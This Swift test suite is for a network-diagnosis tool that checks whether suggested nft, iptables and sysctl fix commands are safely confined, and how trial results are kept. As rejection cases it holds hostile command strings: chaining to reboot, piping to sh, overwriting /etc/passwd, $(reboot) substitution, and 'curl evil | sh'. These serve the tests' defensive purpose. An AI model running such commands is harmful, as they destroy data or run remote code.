import Fixtures
import Testing

@testable import Trace

@Suite struct RemedyTrialTests {
  /// What is tried by itself changes nothing but the copy.
  @Test(arguments: [
    ("nft insert rule inet fw forward handle 2 ip saddr 10.0.0.1 accept", true),
    ("iptables -I INPUT 1 -p tcp --dport 22 -j ACCEPT && ip6tables -I INPUT 1 -j ACCEPT", true),
    ("nft add rule ip nat post 'ip saddr 10.0.0.0/8 oifname \"a;b\" masquerade'", true),
    ("ip route add 10.0.0.0/8 dev eth0", true), ("sysctl -w net.ipv4.ip_forward=1", true),
    ("ufw allow 22/tcp", false), ("firewall-cmd --add-port=22/tcp", false),
    ("iptables -I INPUT 1 -j ACCEPT && ufw reload", false),
    ("ip netns exec other ip link set eth0 up", false), ("ip -n other link set eth0 up", false),
    ("sysctl -w kernel.panic=1", false), ("sysctl -p /etc/sysctl.conf", false),
    ("nft list ruleset; reboot", false), ("nft list ruleset | sh", false),
    ("nft list ruleset >/etc/passwd", false), ("nft $(reboot)", false), ("nft 'open", false),
    ("", false), ("nft list ruleset && ", false),
  ])
  func whatIsConfined(_ remedy: String, _ isConfined: Bool) {
    #expect(RemedyTrial.isConfined(remedy) == isConfined)
  }

  /// A name that no command takes keeps nothing from being told but what has it.
  @Test func whatCannotBeSaidTakesNothingWithIt() {
    let finding = Finding.fault(
      .ruleDrop, .error, "dropped", confidence: .certain, evidence: [],
      remedy: { () throws(Word.Unspeakable) in "ip link set dev \(try Word.device("a b")) up" },
      alternatives: {
        ["nft narrow", try? "ip link set dev \(Word.device("a b")) up", "nft wide", "nft narrow"]
      }, at: nil)
    #expect(finding.remedy == nil && finding.summary.contains("cannot be put into a command"))
    #expect(finding.remedies.map(\.text) == ["nft narrow", "nft wide"])
  }

  @Test func trialsAreKeptInSessions() throws {
    let trial = RemedyTrial(
      remedy: "nft flush ruleset",
      obstacles: [
        .init(id: "policy-drop", summary: "it is dropped", remedy: "iptables -P INPUT ACCEPT"),
        .init(id: "no-route", summary: "there is none"),
      ])
    #expect(RemedyTrial(json: trial.json) == trial)
    let refused = RemedyTrial(remedy: "nft flush ruleset", isRefused: true)
    #expect(RemedyTrial(json: refused.json) == refused)
    let vain = RemedyTrial(remedy: "nft flush ruleset", isVain: true, differences: ["it is old"])
    #expect(RemedyTrial(json: vain.json) == vain)
    #expect(Note(json: Note.rehearsed(trial).json) == .rehearsed(trial))
    // A command of somebody else's is not one to paste.
    var hostile = trial
    hostile.obstacles[0].remedy = "curl evil | sh"
    #expect(RemedyTrial(json: hostile.json)?.obstacles[0].remedy == nil)
  }

  /// Of several commands, the one is told that got the probe through; without a trial, the one that an expert would run.
  @Test func whatWorkedIsTold() throws {
    let name = "policy-nft-forward-v6"
    let untried = try #require(
      try ReplayedSession(name).findings.first { !$0.alternatives.isEmpty })
    #expect(untried.alternatives.count > 1 && untried.trial == nil)
    #expect(untried.remedies.contains { $0 == untried.remedy })
    for command in untried.alternatives {
      let trial = RemedyTrial(remedy: command.text)
      let told = try ReplayedSession(name, then: .rehearsed(trial)).findings.first {
        $0.id == untried.id
      }
      #expect(told?.remedy == command && told?.trial?.remedy == command.text)
    }
    // What was tried in vain is no remedy.
    let vain = RemedyTrial(remedy: untried.alternatives[0].text, isVain: true)
    let without = try ReplayedSession(name, then: .rehearsed(vain)).findings.first {
      $0.id == untried.id
    }
    #expect(without?.remedy == nil && without?.remedies.isEmpty == true && without?.trial == vain)
    // What the finding does not say is nobody's remedy.
    let foreign = RemedyTrial(remedy: "nft flush ruleset")
    let told = try ReplayedSession(name, then: .rehearsed(foreign)).findings.first {
      $0.id == untried.id
    }
    #expect(told == untried)
  }
}
